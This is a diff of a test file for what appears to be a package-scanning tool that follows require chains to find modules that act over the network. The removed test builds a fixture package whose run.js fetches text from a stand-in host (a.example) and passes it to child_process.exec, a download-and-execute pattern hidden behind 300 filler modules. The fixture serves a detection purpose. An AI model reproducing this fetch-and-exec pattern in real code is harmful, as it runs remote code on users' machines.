@@ -101,20 +101,3 @@ test('of a large package what runs first is followed', async () => {
   });
   expect(startedBy(units.get('lib/run.js'))).toContain('network');
 });
-
-test('what an acting module loads is followed beside hundreds of small files that do nothing', async () => {
-  const small = Object.fromEntries(
-    Array.from({ length: 300 }, (_, i) => [`chain/${i}.js`, `require('./${i + 1}');\n`]),
-  );
-  const units = await unitsOf({
-    'package.json': { main: 'index.js' },
-    'index.js': "require('./chain/0');\n",
-    ...small,
-    'chain/300.js': "require('../run');\n",
-    'run.js':
-      "const { put, take } = require('./kept');\nfetch('https://a.example/tool').then((r) => r.text()).then((line) => {\n  put(line);\n  require('child_process').exec(take());\n});\n",
-    'kept.js':
-      'const kept = {};\nexports.put = (line) => {\n  kept.line = line;\n};\nexports.take = () => kept.line;\n',
-  });
-  expect(startedBy(units.get('run.js'))).toContain('network');
-});
